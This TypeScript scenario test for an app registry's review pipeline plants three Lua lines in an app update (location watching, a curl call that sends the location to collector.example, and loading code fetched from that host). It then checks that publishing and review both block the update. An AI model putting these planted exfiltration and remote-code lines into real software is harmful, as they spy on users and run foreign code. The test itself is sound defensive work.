import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";

import { developers, operator, reviewers } from "./cast.ts";
import { appProject, refusedPublish } from "./developer-actions.ts";
import { approve, expectState, isLive, pullOf, tellSubmission } from "./forge-views.ts";
import type { LocalStore } from "./local-store.ts";
import { mustHold } from "./must-hold.ts";
import { copyProject } from "./project-copy.ts";
import { REGISTRY } from "./seed-registry.ts";
import type { Step } from "./step.ts";
import { publishUnchecked } from "./unchecked-publish.ts";
import type { Finding } from "../../core/findings/finding.ts";
import { CHECK_NAME } from "../../node/registry/land/post-report.ts";

const FILE = "assets/scripts/places.lua";
/** The lines that are planted, by the rule that each breaks. */
const PLANTED: Readonly<Record<string, string>> = {
  "permission/undeclared": `  local where = location.watch(print)`,
  "lua/io": `  io.popen("curl https://collector.example/?at=" .. where)`,
  "lua/dynamic-code": `  load(network.get("https://collector.example/next").body)()`,
};

/** An update of bruno's app that spies and runs foreign code: his tool refuses it, and so does review when he gets around the tool. */
export async function maliciousStory(store: LocalStore, step: Step): Promise<void> {
  const { bruno } = developers;
  const project = await copyProject(appProject(bruno), store);
  const wanted = (await plant(project)).map(({ rule, line }) => `${FILE}:${line} ${rule}`);
  await step(
    "bruno plants spyware in an update; mosis publish sends nothing",
    async () => {
      const { findings } = await refusedPublish(bruno, project, store);
      mustHold(Array.isArray(findings), "mosis publish says what it found");
      const found = (findings as unknown as readonly Finding[]).map(({ file = "", range, rule }) => {
        return `${file}:${range?.line ?? 0} ${rule}`;
      });
      mustHold(
        wanted.every((each) => found.includes(each)),
        `it names ${wanted.join(", ")} (it named ${found.join(", ")})`,
      );
      return wanted;
    },
    (lines) => lines,
  );
  const number = await step(
    "bruno submits it with a tool of his own; review fails, with annotations on the planted lines",
    async () => {
      const pull = await publishUnchecked(bruno, project, store);
      const submission = await expectState(bruno, pull, { state: "changes_requested", next: "developer" }, store);
      const annotations = await annotationsOf(pull, store);
      const errors = annotations.filter((each) => each.startsWith("failure")).map((each) => each.slice(8));
      mustHold(
        JSON.stringify(errors) === JSON.stringify(wanted),
        `the annotations are ${wanted.join(", ")} (they are ${annotations.join(", ")})`,
      );
      return { submission, errors };
    },
    ({ submission, errors }) => [tellSubmission(submission), ...errors],
  ).then(({ submission }) => submission.number);
  await step(
    "rosa approves it nevertheless, in vain",
    async () => {
      await approve(reviewers.rosa, number, store);
      const submission = await expectState(bruno, number, { state: "changes_requested", next: "developer" }, store);
      mustHold(!(await isLive("com.mosis.weather", 2, store)), "the update is not live");
      return submission;
    },
    (submission) => [tellSubmission(submission)],
  );
}

/** Puts the lines into the file, in a function of their own; tells where they are. */
async function plant(project: string): Promise<readonly { readonly rule: string; readonly line: number }[]> {
  const path = join(project, FILE);
  const before = await readFile(path, "utf8");
  const own = before.trimEnd().split("\n");
  const last = own.pop() ?? "";
  const first = own.length + 2;
  const lines = [...own, "function places.refresh()", ...Object.values(PLANTED), "end", "", last, ""];
  await writeFile(path, lines.join("\n"));
  return Object.keys(PLANTED).map((rule, index) => ({ rule, line: first + index }));
}

/** The annotations of the machine's check, as `level path:line rule`. */
async function annotationsOf(pull: number, store: LocalStore): Promise<readonly string[]> {
  const { rest } = store.octokit(operator);
  const { head } = await pullOf(pull, store);
  const { data } = await rest.checks.listForRef({ ...REGISTRY, ref: head.sha, check_name: CHECK_NAME });
  const check = data.check_runs.findLast(({ name }) => name === CHECK_NAME);
  mustHold(check?.conclusion === "failure", `the check of #${pull} has failed`);
  const { data: annotations } = await rest.checks.listAnnotations({ ...REGISTRY, check_run_id: check.id });
  return annotations.map(
    ({ annotation_level: level, path, start_line: line, title }) => `${level ?? ""} ${path}:${line} ${title ?? ""}`,
  );
}
